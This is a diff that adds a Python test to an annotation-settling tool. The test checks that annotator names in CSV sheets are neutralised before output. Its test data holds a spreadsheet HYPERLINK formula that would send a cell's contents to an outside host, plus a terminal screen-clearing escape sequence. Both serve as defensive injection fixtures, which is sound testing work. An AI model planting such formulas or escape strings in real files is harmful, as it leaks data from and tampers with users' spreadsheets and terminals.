@@ -274,6 +274,22 @@ def test_what_is_close_is_settled_and_the_rest_waits_for_an_adjudicator(copied):
     assert (np.maximum(*parts) == settled.grade).all()
 
 
+def test_what_an_annotator_writes_is_no_formula_for_the_adjudicator(copied, tmp_path):
+    formula = '=HYPERLINK("http://elsewhere/"&A1)'
+    pair = copied.table["pair"][0].as_py()
+    sheets = []
+    for grade, name in (("0", formula), ("4", "+ben\x1b[2J")):
+        with (tmp_path / "sheet.csv").open("w") as file:
+            row = [pair, grade, name, "-1"]
+            csv.writer(file).writerows([["pair", "grade", "annotator", "note"], row])
+        sheets.append(read_sheet(tmp_path / "sheet.csv", copied))
+    assert [sheet.annotator for sheet in sheets] == [formula, "+ben [2J"]
+    write_settled(copied, sheets, settle(copied, sheets, None))
+    [head, row] = csv.reader((copied.folder / OPEN).open())
+    assert head == ["pair", f"'{formula}", "'+ben [2J", "grade", "note"]
+    assert row == [pair, "0", "4", "", f"'{formula}: -1 / +ben [2J: -1"]
+
+
 def test_one_annotator_settles_alone_and_skipped_pairs_stay_open(golden):
     settled = settle(golden, [sheet_of(golden, "a", every=4)], None)
     assert (settled.count("alone"), settled.count("nobody")) == (100, 300)
